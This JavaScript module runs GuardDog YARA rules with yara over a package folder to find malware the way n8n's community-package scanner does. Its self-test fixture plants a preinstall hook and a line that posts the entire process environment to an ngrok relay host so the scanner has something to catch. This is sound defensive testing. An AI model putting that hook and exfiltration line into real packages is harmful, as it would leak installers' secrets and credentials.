/**
 * GuardDog's YARA malware rules (./guarddog, see README.md) run with Debian's `yara` over every file of a package
 * folder, judged as n8n's community-package scanner judges them: a match of a `threat-*` rule in a file its
 * `path_include` names (and its `path_exclude` does not) fails the scan; a `capability-*` rule only says what the
 * code can do. n8n runs the same rule files through YARA-X; Debian's yara 4 compiles and runs them unchanged.
 */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, dirname, join, relative, sep } from 'node:path';
import { fileURLToPath } from 'node:url';

import { run } from '../lib/processes.mjs';

export const GUARDDOG_RULES_DIR = join(dirname(fileURLToPath(import.meta.url)), 'guarddog');
export const GUARDDOG_VERSION = readFileSync(join(GUARDDOG_RULES_DIR, 'VERSION'), 'utf8').trim();

/**
 * A GuardDog path glob as a regular expression. Its `*` spans folders too (`*.js` takes `package/dist/a.js`), as it
 * does for GuardDog and n8n.
 */
function globPattern(glob) {
	const pattern = glob
		.trim()
		.split('*')
		.map((part) => part.replace(/[\\^$.|?+()[\]{}]/g, '\\$&'))
		.join('.*');
	return new RegExp(`^${pattern}$`);
}

/** A rule meta string (`path_include = "*.js,*.ts"`) of the rule's own text, or undefined. */
function metaValue(ruleText, key) {
	return new RegExp(`^\\s*${key}\\s*=\\s*"([^"]*)"`, 'm').exec(ruleText)?.[1];
}

/**
 * Every rule file: its namespace (the file name, so helper rules a file includes never clash with another file's),
 * the rule it is named for (its first `rule`, what a finding names; the `include`d helper rules and a `private rule`
 * before it are not findings), that rule's description and path globs.
 */
export function loadRuleFiles() {
	return readdirSync(GUARDDOG_RULES_DIR)
		.filter((file) => file.endsWith('.yar'))
		.sort()
		.map((file) => {
			const text = readFileSync(join(GUARDDOG_RULES_DIR, file), 'utf8');
			const declaration = /^rule\s+(\w+)/m.exec(text);
			if (!declaration) throw new Error(`${file} declares no rule`);
			const ruleText = text.slice(declaration.index);
			const globs = (key) =>
				(metaValue(ruleText, key) ?? '')
					.split(',')
					.filter((glob) => glob.trim() !== '')
					.map(globPattern);
			return {
				file,
				namespace: file.replace(/\.yar$/, ''),
				identifier: declaration[1],
				/** As n8n names it: threat_runtime_environment_read is threat-runtime-environment-read. */
				name: declaration[1].replace(/_/g, '-'),
				description: metaValue(ruleText, 'description') ?? '',
				include: metaValue(ruleText, 'path_include') === undefined ? undefined : globs('path_include'),
				exclude: globs('path_exclude'),
			};
		});
}

/**
 * Whether a rule looks at a file: its globs are written for GuardDog, which scans the tarball, so a path is tried as
 * `package/<path>` and by its bare name.
 */
function ruleApplies(rule, path) {
	const candidates = [`package/${path}`, basename(path)];
	const hits = (patterns) => patterns.some((pattern) => candidates.some((candidate) => pattern.test(candidate)));
	return (rule.include === undefined || hits(rule.include)) && !hits(rule.exclude);
}

/** Line and column (from 1) of a byte offset, to point at a match. */
function position(content, offset) {
	const before = content.subarray(0, offset).toString('utf8');
	const lineStart = before.lastIndexOf('\n') + 1;
	return { line: before.split('\n').length, column: before.length - lineStart + 1 };
}

/** The installed yara's version, or a refusal saying how to get it. */
async function yaraVersion() {
	try {
		const version = await run('yara', ['--version']);
		if (version.code !== 0) throw new Error(version.stderr.trim());
		return version.stdout.trim();
	} catch (error) {
		throw new Error(
			`Debian's yara is needed to run GuardDog's YARA rules (apt-get install yara; .ci/run installs it): ${error.message}`,
		);
	}
}

/**
 * Runs every rule over every file under `packageDir` (one yara run: each rule file in its own namespace, `-s` for
 * where each match is). Resolves with the threats (the scan's findings), the capabilities (informational), the hits
 * in files outside a rule's paths (no findings, counted per rule with an example file), and what ran. A rule that does
 * not compile or a file yara cannot read rejects: the scan then has no answer, not a pass.
 */
export async function runGuardDogRules(packageDir) {
	const version = await yaraVersion();
	const rules = loadRuleFiles();
	const ruleArgs = rules.map((rule) => `${rule.namespace}:${join(GUARDDOG_RULES_DIR, rule.file)}`);
	// -w: the rules' own performance warnings are GuardDog's to tune; any other line on stderr is an error.
	const yara = await run('yara', ['-r', '-e', '-s', '-w', ...ruleArgs, packageDir]);
	if (yara.code !== 0 || yara.stderr.trim() !== '') {
		throw new Error(`yara failed (exit ${yara.code}): ${yara.stderr.trim()}`);
	}
	const byNamespace = new Map(rules.map((rule) => [rule.namespace, rule]));
	const matches = [];
	let current;
	for (const line of yara.stdout.split('\n')) {
		const ruleLine = /^([\w-]+):(\w+) (.+)$/.exec(line);
		if (ruleLine) {
			const rule = byNamespace.get(ruleLine[1]);
			current = rule && rule.identifier === ruleLine[2] ? { rule, path: ruleLine[3], offset: undefined } : undefined;
			if (current) matches.push(current);
			continue;
		}
		const stringLine = /^0x([0-9a-f]+):\$/.exec(line);
		if (stringLine && current && current.offset === undefined) current.offset = Number.parseInt(stringLine[1], 16);
	}
	const threats = [];
	const capabilities = [];
	const outsidePaths = new Map();
	for (const match of matches) {
		const path = relative(packageDir, match.path).split(sep).join('/');
		if (!ruleApplies(match.rule, path)) {
			const outside = outsidePaths.get(match.rule.name) ?? { count: 0, example: path };
			outside.count += 1;
			// yara scans with several threads, in no fixed order: the first path in sort order, the same every run.
			if (path.localeCompare(outside.example) < 0) outside.example = path;
			outsidePaths.set(match.rule.name, outside);
			continue;
		}
		const where = match.offset === undefined ? { line: 1, column: 1 } : position(readFileSync(match.path), match.offset);
		const finding = { rule: match.rule.name, description: match.rule.description, file: path, ...where };
		(match.rule.name.startsWith('threat-') ? threats : capabilities).push(finding);
	}
	const bySite = (a, b) => a.file.localeCompare(b.file) || a.line - b.line || a.rule.localeCompare(b.rule);
	return {
		yaraVersion: version,
		ruleCount: rules.length,
		threatRuleCount: rules.filter((rule) => rule.name.startsWith('threat-')).length,
		threats: threats.sort(bySite),
		capabilities: capabilities.sort(bySite),
		/** Per rule: how many of its hits were in files it does not look at, and one of those files. */
		outsidePaths,
	};
}

/**
 * A package planted with what the rules exist to catch, and the threat rules it must set off: a preinstall script
 * running a file, and code posting the whole environment to a tunnel host. The same text in a file no rule looks at
 * must set nothing off. Run before the real scan, so a scan that cannot find a threat (rules not loaded, output not
 * read, paths misjudged) fails instead of reporting 0.
 */
export const PLANTED_PACKAGE = {
	files: {
		'package.json': JSON.stringify(
			{ name: 'planted', version: '1.0.0', scripts: { preinstall: 'node dist/collect.js' } },
			null,
			2,
		),
		'dist/collect.js': "fetch('https://relay.ngrok.io/in', { method: 'POST', body: JSON.stringify(process.env) });\n",
		'dist/notes.txt': "fetch('https://relay.ngrok.io/in', { method: 'POST', body: JSON.stringify(process.env) });\n",
	},
	threats: [
		'package.json threat-npm-preinstall-script',
		'package.json threat-process-hooks',
		'dist/collect.js threat-network-exfiltration',
		'dist/collect.js threat-network-outbound-shady-links',
		'dist/collect.js threat-runtime-environment-read',
	],
};

/**
 * Runs the rules over the planted package; resolves with the problems, none when it found every expected threat and
 * no other.
 */
export async function checkPlantedPackage() {
	const folder = mkdtempSync(join(tmpdir(), 'scrapebadger-yara-planted-'));
	try {
		for (const [path, content] of Object.entries(PLANTED_PACKAGE.files)) {
			mkdirSync(dirname(join(folder, path)), { recursive: true });
			writeFileSync(join(folder, path), content);
		}
		const { threats } = await runGuardDogRules(folder);
		const found = threats.map((threat) => `${threat.file} ${threat.rule}`).sort();
		const expected = [...PLANTED_PACKAGE.threats].sort();
		return [
			...expected.filter((threat) => !found.includes(threat)).map((threat) => `not found: ${threat}`),
			...found.filter((threat) => !expected.includes(threat)).map((threat) => `found but not expected: ${threat}`),
		];
	} finally {
		rmSync(folder, { recursive: true, force: true });
	}
}
